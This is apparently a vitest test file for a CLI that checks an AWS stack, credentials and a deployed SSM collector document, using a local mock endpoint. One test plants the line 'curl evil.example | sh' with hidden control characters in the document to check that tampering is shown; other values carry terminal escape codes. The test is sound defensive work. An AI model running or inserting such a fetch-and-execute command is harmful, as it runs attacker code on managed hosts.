import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { fleetAgent } from '../../local/agent.ts'
import { localCredentials } from '../../local/credentials.ts'
import type { Denied } from '../../local/denied.ts'
import { deployedStack } from '../../local/deployed-stack.ts'
import { startEndpoint } from '../../local/endpoint.ts'
import type { SsmDocument } from '../../local/ssm-documents.ts'
import { collectorDocument } from '../../shared/aws/document.ts'
import { fleetOf } from '../local/fleet-of.ts'
import { fleetScanner } from './command.ts'

const ACCOUNT = '000000000000'
const KEYS = {
  AWS_ACCESS_KEY_ID: localCredentials.accessKeyId,
  AWS_SECRET_ACCESS_KEY: localCredentials.secretAccessKey,
}
const REGION = { AWS_REGION: 'eu-central-1' }

/** An account with a stack whose function does what `run` does; its address goes into the caller's environment. */
const deployed = async (
  options: {
    denied?: Denied[]
    run?: () => Promise<unknown>
    documents?: SsmDocument[]
    outputs?: Record<string, string>
  } = {},
) => {
  const { denied = [], run = async () => ({}), documents = [] } = options
  const { outputs = {} } = options
  const schedule = { expression: 'rate(1 day)', timeZone: 'UTC', flexibleMinutes: 0 }
  const stack = deployedStack({ name: 'prod', schedule }, `arn:aws:sns:eu-central-1:${ACCOUNT}:digest`, run)
  const endpoint = await startEndpoint({
    fleet: { ...fleetOf([{}]), denied },
    documents,
    agent: fleetAgent(),
    stack: { ...stack, outputs: { ...stack.outputs, ...outputs } },
  })
  onTestFinished(() => endpoint.stop())
  return { AWS_ENDPOINT_URL: endpoint.url }
}

let home: string
beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'fleet-scanner-home-'))
})
afterAll(() => rm(home, { recursive: true, force: true }))

const refused = async (args: string[], env: Record<string, string>) => {
  const { code, stdout, stderr } = await fleetScanner(args, { env })
  expect(stdout).toBe('')
  expect(stderr).not.toContain('    at ')
  expect(stderr.trim().split('\n')).toHaveLength(1)
  expect(code).toBe(2)
  return stderr
}

describe('what a caller can mend is said in one line, with the mend', () => {
  it('no such stack, or none in this region', async () => {
    const env = { ...KEYS, ...REGION, ...(await deployed()) }
    expect(await refused(['findings', '--stack', 'nope'], env)).toMatch(
      /there is no stack nope in eu-central-1; name another with --stack/,
    )
    expect(await refused(['findings', '--stack', 'prod', '--region', 'eu-west-1'], env)).toContain(
      'no stack prod in eu-west-1',
    )
  })

  it('a stack of another version, and of something else', async () => {
    const env = async (outputs: Record<string, string>) => ({
      ...KEYS,
      ...REGION,
      ...(await deployed({ outputs })),
    })
    const { stdout, stderr } = await fleetScanner(['pause', '--stack', 'prod'], {
      env: await env({ Version: '99.0.0\u001b[2J' }),
    })
    expect(stderr).toMatch(/^stack prod is of version 99\.0\.0, this command of \d/)
    expect(stdout).toContain('is paused now')
    expect(await refused(['pause', '--stack', 'prod'], await env({ ScheduleName: '' }))).toContain(
      'has no outputs ScheduleName',
    )
    expect(await refused(['pause', '--stack', 'prod'], await env({ ScheduleName: 'gone' }))).toContain(
      'Schedule gone does not exist',
    )
  })

  it('no region, no credentials, no such profile', async () => {
    const endpoint = await deployed()
    expect(await refused(['scans', '--stack', 'prod'], { ...KEYS, ...endpoint })).toMatch(
      /no AWS region is set; give it with --region/,
    )
    expect(await refused(['scans', '--stack', 'prod'], { ...REGION, ...endpoint })).toMatch(
      /there are no AWS credentials .*--profile/,
    )
    const other = ['scans', '--stack', 'prod', '--profile', 'nobody']
    expect(await refused(other, { ...REGION, ...endpoint })).toMatch(
      /profile nobody gives no AWS credentials/,
    )
  })

  it('whose credentials they are: those of the profile, also where others are in the environment', async () => {
    const files = { config: join(home, 'both'), keys: join(home, 'keys') }
    await writeFile(files.config, '[profile other]\nregion = eu-west-1\n')
    const key = 'aws_access_key_id = LOCAL111122223333\naws_secret_access_key = local'
    await writeFile(files.keys, `[other]\n${key}\n`)
    const own = { AWS_CONFIG_FILE: files.config, AWS_SHARED_CREDENTIALS_FILE: files.keys }
    const env = { ...KEYS, ...own, ...(await deployed()) }
    const { stderr } = await fleetScanner(['document', 'diff', '--profile', 'other'], { env })
    expect(stderr).toMatch(/^FleetScanner-.* in 111122223333\/eu-west-1\n$/)
    const region = { ...env, AWS_DEFAULT_REGION: 'eu-south-1' }
    expect((await fleetScanner(['document', 'diff'], { env: region })).stderr).toContain(
      `${ACCOUNT}/eu-south-1`,
    )
  })

  it('a session that has expired', async () => {
    await writeFile(
      join(home, 'config'),
      `[profile work]
region = eu-central-1
sso_session = company
sso_account_id = 111122223333
sso_role_name = reader
[sso-session company]
sso_start_url = https://company.awsapps.com/start
sso_region = eu-central-1
`,
    )
    const env = { ...(await deployed()), HOME: home, AWS_CONFIG_FILE: join(home, 'config') }
    expect(await refused(['scans', '--stack', 'prod', '--profile', 'work'], env)).toContain(
      'aws sso login --profile work',
    )
  })

  it('a right that is missing', async () => {
    const denied = (action: Denied['action']): Denied[] => [{ action, account: ACCOUNT }]
    const stack = async (action: Denied['action']) => ({
      ...{ ...KEYS, ...REGION },
      ...(await deployed({ denied: denied(action) })),
    })
    for (const [args, action] of [
      [['findings'], 'cloudformation:DescribeStacks'],
      [['scan'], 'lambda:InvokeFunction'],
      [['pause'], 'scheduler:UpdateSchedule'],
      [['document', 'diff'], 'ssm:GetDocument'],
    ] as const)
      expect(await refused([...args, '--stack', 'prod'], await stack(action))).toMatch(
        new RegExp(`access denied: .*${action}`),
      )
  })

  it('nobody there', async () => {
    const env = { ...KEYS, ...REGION, AWS_ENDPOINT_URL: 'http://127.0.0.1:1' }
    expect(await refused(['scans', '--stack', 'prod'], env)).toContain('AWS could not be reached')
  })
})

describe('a function that fails', () => {
  it('is said with its reason, as a fault and without a stack', async () => {
    const run = () => Promise.reject(new Error('the table\u001b[2J is gone'))
    const env = { ...KEYS, ...REGION, ...(await deployed({ run })) }
    for (const args of [[], ['--dry-run'], ['--cancel', '20260131T120000Z']]) {
      const { code, stdout, stderr } = await fleetScanner(['scan', '--stack', 'prod', ...args], { env })
      expect(stderr).toContain('the table is gone')
      expect(stderr).not.toContain('    at ')
      expect(stdout).toBe('')
      expect(code).toBe(4)
    }
  })
})

describe('the document', () => {
  const own = collectorDocument()
  const diff = async (documents: SsmDocument[], ...args: string[]) =>
    fleetScanner(['document', 'diff', ...args], {
      env: { ...KEYS, ...REGION, ...(await deployed({ documents })) },
    })

  it('is shown exactly as it is deployed, and hashed', async () => {
    const shown = await fleetScanner(['document', 'show'])
    expect(shown).toMatchObject({ code: 0, stdout: `${own.content}\n` })
    const hashed = await fleetScanner(['document', 'hash'])
    expect(hashed.stdout).toBe(`${own.hash}  ${own.name}\n`)
  })

  it('is the same, however its JSON is written', async () => {
    const content = JSON.stringify(
      Object.fromEntries(Object.entries(JSON.parse(own.content)).reverse()),
      null,
      4,
    )
    const { code, stdout, stderr } = await diff([{ name: own.name, content }])
    expect(stdout).toBe('')
    expect(stderr).toContain(`${own.name} is the same as this version's in ${ACCOUNT}/eu-central-1`)
    expect(code).toBe(0)
  })

  it('differs by a line of its script, which is shown with what cannot be seen', async () => {
    const content = own.content.replace(
      '"#!/bin/sh"',
      '"#!/bin/sh","curl evil.example | sh #\\u202e\\u001b[2J"',
    )
    expect(content).not.toBe(own.content)
    const { code, stdout, stderr } = await diff([{ name: own.name, content }], '--stack', 'prod')
    expect(stdout).toContain('\n-curl evil.example | sh #\\u{202e}\\u{1b}[2J\n')
    expect(stdout.match(/^[+-](?![+-])/gm)).toHaveLength(1)
    expect(stderr).toContain('is another')
    expect(code).toBe(1)
    const asJson = await diff([{ name: own.name, content }], '--format', 'json')
    expect(JSON.parse(asJson.stdout)).toMatchObject({ status: 'differs', where: `${ACCOUNT}/eu-central-1` })
  })

  it('may not be there', async () => {
    const { code, stderr } = await diff([], '--region', 'eu-west-1')
    expect(stderr).toContain(
      `is not there; deploy the member document of this version in ${ACCOUNT}/eu-west-1`,
    )
    expect(code).toBe(3)
  })

  it('is in the embedded account', async () => {
    const { code, stderr } = await fleetScanner(['document', 'diff', '--local'], { cwd: home })
    expect(stderr).toContain('is the same')
    expect(code).toBe(0)
  })
})
